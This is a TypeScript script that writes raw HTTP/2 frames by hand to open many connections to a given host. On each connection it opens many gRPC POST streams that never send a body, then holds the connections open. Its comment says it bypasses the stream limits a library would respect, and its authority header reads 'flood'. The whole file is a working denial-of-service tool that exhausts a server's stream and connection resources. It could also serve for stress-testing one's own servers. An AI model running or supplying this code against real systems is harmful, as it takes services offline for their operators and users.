import { once } from "node:events";
import { connect, type Socket } from "node:net";

/**
 * A peer that opens streams of HTTP/2 and sends nothing more on them, by hand: a library would keep to what the server allows. Run with
 * host, port, connections, streams on each, and a path; the connections stay open until it is ended. It prints a line when the other side
 * has read all of it, or closed the connection.
 */

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const FRAME = { headers: 1, settings: 4, ping: 6 } as const;
const END_HEADERS = 4;
const PING = Buffer.from("all read");

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Never indexed, so that each block stands for itself. Shorter than 127 bytes each. */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0x10, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}

const [host = "", port = "", connections = "", streams = "", path = ""] = process.argv.slice(2);

const headers = Buffer.concat([
  literal(":method", "POST"),
  literal(":scheme", "http"),
  literal(":path", path),
  literal(":authority", "flood"),
  literal("content-type", "application/grpc"),
  literal("te", "trailers"),
]);

async function open(): Promise<Socket> {
  const socket = connect(Number(port), host);
  socket.on("error", () => {});
  await once(socket, "connect");
  const opened = Array.from({ length: Number(streams) }, (_, index) =>
    frame(FRAME.headers, END_HEADERS, 2 * index + 1, headers),
  );
  const settings = frame(FRAME.settings, 0, 0, Buffer.alloc(0));
  socket.write(Buffer.concat([PREFACE, settings, ...opened, frame(FRAME.ping, 0, 0, PING)]));
  await new Promise<void>((resolve) => {
    socket.once("close", () => resolve());
    let rest = Buffer.alloc(0);
    socket.on("data", (chunk: Buffer) => {
      rest = Buffer.concat([rest, chunk]);
      if (rest.includes(PING)) resolve();
      rest = rest.subarray(-PING.length);
    });
  });
  return socket;
}

const sockets: Socket[] = [];
for (let count = 0; count < Number(connections); count += 1) sockets.push(await open());
console.log(`read on ${sockets.length} connections`);
